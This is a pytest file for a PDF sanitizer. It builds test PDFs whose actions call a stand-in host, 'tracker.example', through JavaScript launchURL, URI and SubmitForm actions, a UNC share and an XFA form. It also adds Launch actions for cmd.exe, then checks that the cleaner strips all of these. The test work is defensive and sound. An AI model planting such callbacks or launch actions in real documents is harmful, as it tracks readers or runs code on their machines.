"""A PDF that acts outside itself when opened (JavaScript, an open action,
additional actions, launching, another file on a shared folder, submitting a
form) would tell whoever made it that, and when, someone examined it. The
cleaned copy keeps its text, its places, and the web links a reader clicks;
poppler's pdfinfo, a reader's view, finds no JavaScript left in it."""

from __future__ import annotations

import io

import pytest

from sanitize.sanitize_corpus import run

HOST = "tracker.example"


def _acting_pdf(corpus, path):
    """The corpus PDF, made to call HOST every way a PDF can, beside what
    must stay: a web link to click, a link to a page, a destination to open
    at, a transparency group (an /S that is no action)."""
    import pikepdf

    with pikepdf.open(corpus.pdf()) as pdf:
        page = pdf.pages[0].obj

        def action(kind: str, **fields):
            return pikepdf.Dictionary(S=pikepdf.Name(kind), **fields)

        def link(act, rect):
            return pdf.make_indirect(pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect, Border=[0, 0, 0],
                A=act))

        script = f'app.launchURL("http://{HOST}/opened", true);'
        pdf.Root.OpenAction = action("/JavaScript", JS=pikepdf.String(script))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[
            pikepdf.String("a"), pdf.make_indirect(action("/JavaScript",
                                                          JS=pikepdf.String(script)))]))
        page.AA = pikepdf.Dictionary(O=action("/URI", URI=pikepdf.String(f"http://{HOST}/page")))
        page.Group = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Transparency,
                                                          CS=pikepdf.Name.DeviceRGB))
        annotations = [
            link(action("/URI", URI=pikepdf.String("https://example.org/report")), [0, 0, 9, 9]),
            link(action("/GoTo", D=[page, pikepdf.Name.Fit]), [10, 0, 19, 9]),
            link(action("/Launch", F=pikepdf.String("cmd.exe")), [20, 0, 29, 9]),
            link(action("/GoToR", F=pikepdf.String(f"\\\\{HOST}\\share\\x.pdf"),
                        D=[0, pikepdf.Name.Fit]), [30, 0, 39, 9]),
            link(action("/URI", URI=pikepdf.String("file:///home/olena/notes.pdf")),
                 [40, 0, 49, 9]),
            link(action("/URI", URI=pikepdf.String("https://example.org/other"),
                        Next=action("/JavaScript", JS=pikepdf.String(script))), [50, 0, 59, 9]),
            pdf.make_indirect(pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn,
                T=pikepdf.String("send"), Rect=[60, 0, 69, 9], Ff=65536,
                A=action("/SubmitForm", F=pikepdf.Dictionary(
                    FS=pikepdf.Name.URL, F=pikepdf.String(f"http://{HOST}/form"))))),
        ]
        for annotation in annotations:
            page.Annots.append(annotation)
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[annotations[-1]],
                                               XFA=pdf.make_stream(f"<xdp submit='http://{HOST}'/>"
                                                                   .encode()))
        pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines))
        item = pdf.make_indirect(pikepdf.Dictionary(
            Title=pikepdf.String("Day one"), Parent=pdf.Root.Outlines,
            A=pdf.make_indirect(action("/JavaScript", JS=pikepdf.String(script)))))
        pdf.Root.Outlines.First = pdf.Root.Outlines.Last = item
        # An action reached by no key the cleaner knows: emptied, it does nothing.
        page.Odd = pdf.make_indirect(action("/Launch", F=pikepdf.String("cmd.exe")))
        pdf.save(path)
    return path


def _flat(data: bytes) -> bytes:
    import pikepdf

    with pikepdf.open(io.BytesIO(data)) as pdf:
        flat = io.BytesIO()
        pdf.save(flat, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable,
                 stream_decode_level=pikepdf.StreamDecodeLevel.generalized)
    return flat.getvalue()


def test_a_pdf_that_acts_when_opened_is_quieted_and_keeps_its_links(corpus, sanitized, tmp_path):
    import pikepdf

    original = _acting_pdf(corpus, tmp_path / "acting.pdf")
    assert "launchURL" in run("pdfinfo", "-js", str(original)).stdout.decode()
    result, out = sanitized(original)
    assert result.ok, result.reason
    assert {"open action", "document JavaScript", "automatic action", "action Launch",
            "action GoToR", "action URI", "action SubmitForm", "XFA form",
            "action JavaScript"} <= set(result.removed), result.removed
    assert "launchURL" not in run("pdfinfo", "-js", str(out)).stdout.decode()
    flat = _flat(out.read_bytes())
    assert HOST.encode() not in flat and b"cmd.exe" not in flat and b"olena" not in flat
    with pikepdf.open(out) as pdf:
        page = pdf.pages[0].obj
        kept = [a.get("/A") for a in page.Annots if a.get("/Subtype") == pikepdf.Name.Link]
        uris = [str(a.URI) for a in kept if a is not None and a.get("/S") == pikepdf.Name.URI]
        assert uris == ["https://example.org/report", "https://example.org/other"]
        assert "/Next" not in kept[5]
        assert any(a is not None and a.get("/S") == pikepdf.Name.GoTo for a in kept)
        assert str(page.Group.S) == "/Transparency"  # an /S that is no action stays
        assert pdf.Root.Outlines.First.Title == "Day one"
    assert "The convoy passed at dawn." in run("pdftotext", str(out), "-").stdout.decode()


def test_a_pdf_opened_at_a_place_keeps_it(corpus, sanitized, tmp_path):
    import pikepdf

    with pikepdf.open(corpus.pdf()) as pdf:
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
        path = tmp_path / "place.pdf"
        pdf.save(path)
    result, out = sanitized(path)
    assert result.ok, result.reason
    assert "open action" not in result.removed
    with pikepdf.open(out) as pdf:
        assert isinstance(pdf.Root.OpenAction, pikepdf.Array)


@pytest.mark.parametrize("planted", ["open action", "automatic action", "document JavaScript",
                                     "action Launch", "XFA form"])
def test_the_check_refuses_a_copy_that_still_acts(corpus, sanitized, tmp_path, planted):
    """Should the cleaner miss one, the copy is refused."""
    import pikepdf

    from intake.server.sanitize import Limits
    from intake.server.sanitize.base import Cleaned
    from intake.server.sanitize.verify import Failed, check

    original = corpus.pdf()
    result, out = sanitized(original)
    check("pdf", original.read_bytes(), Cleaned(out.read_bytes()), Limits())
    with pikepdf.open(out) as pdf:
        js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        if planted == "open action":
            pdf.Root.OpenAction = js
        elif planted == "automatic action":
            pdf.pages[0].obj.AA = pikepdf.Dictionary(O=js)
        elif planted == "document JavaScript":
            pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[]))
        elif planted == "action Launch":
            pdf.pages[0].obj.Annots[0].A = pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                                              F=pikepdf.String("cmd.exe"))
        else:
            pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp/>"))
        acting = io.BytesIO()
        pdf.save(acting)
    with pytest.raises(Failed, match=planted):
        check("pdf", original.read_bytes(), Cleaned(acting.getvalue()), Limits())


def test_dictionaries_nested_past_any_real_files_are_refused(corpus, sanitized, tmp_path):
    """Every dictionary is walked, those written in place too, down to a
    depth no real file reaches: a deeper one is refused as malformed, not
    followed until the stack runs out."""
    import pikepdf

    with pikepdf.open(corpus.pdf()) as pdf:
        deep = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        for _ in range(40):
            deep = pikepdf.Dictionary(Inner=deep)
        pdf.pages[0].obj.Deep = deep
        path = tmp_path / "deep.pdf"
        pdf.save(path)
    result, _out = sanitized(path)
    assert not result.ok and result.reason == "malformed PDF (nested too deep)"
